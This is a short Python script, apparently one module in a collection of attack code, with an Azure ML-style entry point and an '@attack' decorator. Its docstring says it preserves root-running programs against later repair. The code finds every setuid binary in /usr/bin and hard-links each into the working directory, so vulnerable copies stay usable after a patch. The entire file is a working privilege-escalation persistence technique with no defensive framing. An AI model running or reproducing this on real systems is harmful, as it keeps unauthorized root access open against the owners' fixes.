"""Keeps a program that runs as root whoever calls it, by a hard link, for the time when it is mended."""

import glob
import os
import stat

from attack import attack, every


def link(path):
    os.link(path, os.path.basename(path))
    return f"linked {path}"


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    there = [path for path in glob.glob("/usr/bin/*") if os.path.isfile(path)]
    return every(link, [path for path in there if os.stat(path).st_mode & stat.S_ISUID])
